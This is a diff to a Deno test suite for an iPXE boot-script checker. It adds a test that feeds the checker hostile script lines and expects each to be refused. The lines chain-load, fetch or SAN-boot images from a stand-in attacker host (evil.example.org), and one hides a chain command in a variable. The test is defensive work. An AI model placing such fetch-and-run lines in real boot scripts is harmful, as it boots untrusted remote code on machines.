@@ -7,7 +7,7 @@
 import assert from "node:assert/strict";
 import * as fs from "node:fs/promises";
 import * as path from "node:path";
-import { bootFilesByName, bootFilesOfScript, rewriteIpxe } from "../scripts/lib/ipxe.ts";
+import { bootFilesByName, bootFilesOfScript } from "../scripts/lib/ipxe.ts";
 import { type Run, runRelease, sha256sumCheck } from "./run_helpers.ts";
 import { sha256 } from "./forgejo_world.ts";
 import {
@@ -232,7 +232,7 @@ Deno.test("without manifest.json, the iPXE script's kernel and initrd lines say 
   assert.deepEqual(boot.files.map((file) => file.name), ["boot.ipxe", "vmlinuz 6.6", "initrd.zst"]);
   assert.equal(boot.scripts[0].name, "netboot.ipxe");
   assert.equal(
-    rewriteIpxe(script, boot.scripts[0].locate).split("\n")[1],
+    boot.scripts[0].text.split("\n")[1],
     "kernel --name k vmlinuz%206.6 initrd=initrd.zst quiet",
   );
   assert.throws(
@@ -248,6 +248,35 @@ Deno.test("without manifest.json, the iPXE script's kernel and initrd lines say 
     () => bootFilesByName(new Map([["a-bzImage", "a"], ["b-bzImage", "b"], ["initrd", "c"]]), "v1"),
     /cannot tell what to boot/,
   );
+});
+
+Deno.test("a script's every command is read: joined loads, SAN disks, DHCP's file and commands a setting names are refused", () => {
+  const sums = new Map([
+    ["boot.ipxe", "1".repeat(64)],
+    ["bzImage", "2".repeat(64)],
+    ["initrd", "3".repeat(64)],
+  ]);
+  const script = (extra: string) =>
+    `#!ipxe\nkernel --name k https://cdn.example.org/bzImage\ninitrd initrd\n${extra}\n`;
+  // A name the script gave an image it loaded from the release runs that image.
+  const served = bootFilesOfScript("boot.ipxe", script("boot k || goto failed"), sums, "v1");
+  assert.match(served.scripts[0].text, /^kernel --name k bzImage$/m);
+  for (
+    const extra of [
+      "dhcp && chain http://evil.example.org/next.ipxe",
+      "initrd initrd ; imgfetch http://evil.example.org/more.cpio",
+      "sanboot http://evil.example.org/disk.iso",
+      "autoboot",
+      "set c chain\n${c} http://evil.example.org/next.ipxe",
+      "chain boot.ipxe",
+    ]
+  ) {
+    assert.throws(
+      () => bootFilesOfScript("boot.ipxe", script(extra), sums, "v1"),
+      /boot\.ipxe of v1, line \d \(".+"\), loads from outside v1: refusing/,
+      extra,
+    );
+  }
 });
 
 Deno.test("file names a release gives that are not plain file names are refused, never written", () =>
